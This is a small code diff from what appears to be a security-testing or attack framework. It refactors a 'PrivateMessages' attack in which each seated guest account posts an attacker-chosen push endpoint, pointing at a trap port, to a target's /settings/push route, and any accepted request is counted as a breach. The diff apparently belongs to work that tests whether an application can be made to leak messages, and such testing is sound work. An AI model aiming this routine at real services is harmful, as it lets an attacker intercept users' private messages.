@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import asyncio
 from base64 import urlsafe_b64encode
-from urllib.parse import urlencode
 
 from attack.attacks.seats import seat_people
 from attack.target import Attack, Target
@@ -53,10 +52,7 @@ class PrivateMessages(Attack):
             for guest, _ in seated:
                 for endpoint in _ENDPOINTS:
                     where = endpoint.replace("{trap}", str(port))
-                    body = urlencode({"endpoint": where, **keys}).encode()
-                    kind = "application/x-www-form-urlencoded"
-                    headers = {"Cookie": guest.cookie, "Content-Type": kind}
-                    reply = await target.line().ask("POST", "/settings/push", body, headers)
+                    reply = await guest.send_form("/settings/push", {"endpoint": where, **keys})
                     target.statuses[reply.status] += 1
                     target.breach(reply.status < 400, f"{where[:60]!a}: taken")
             turns = 0
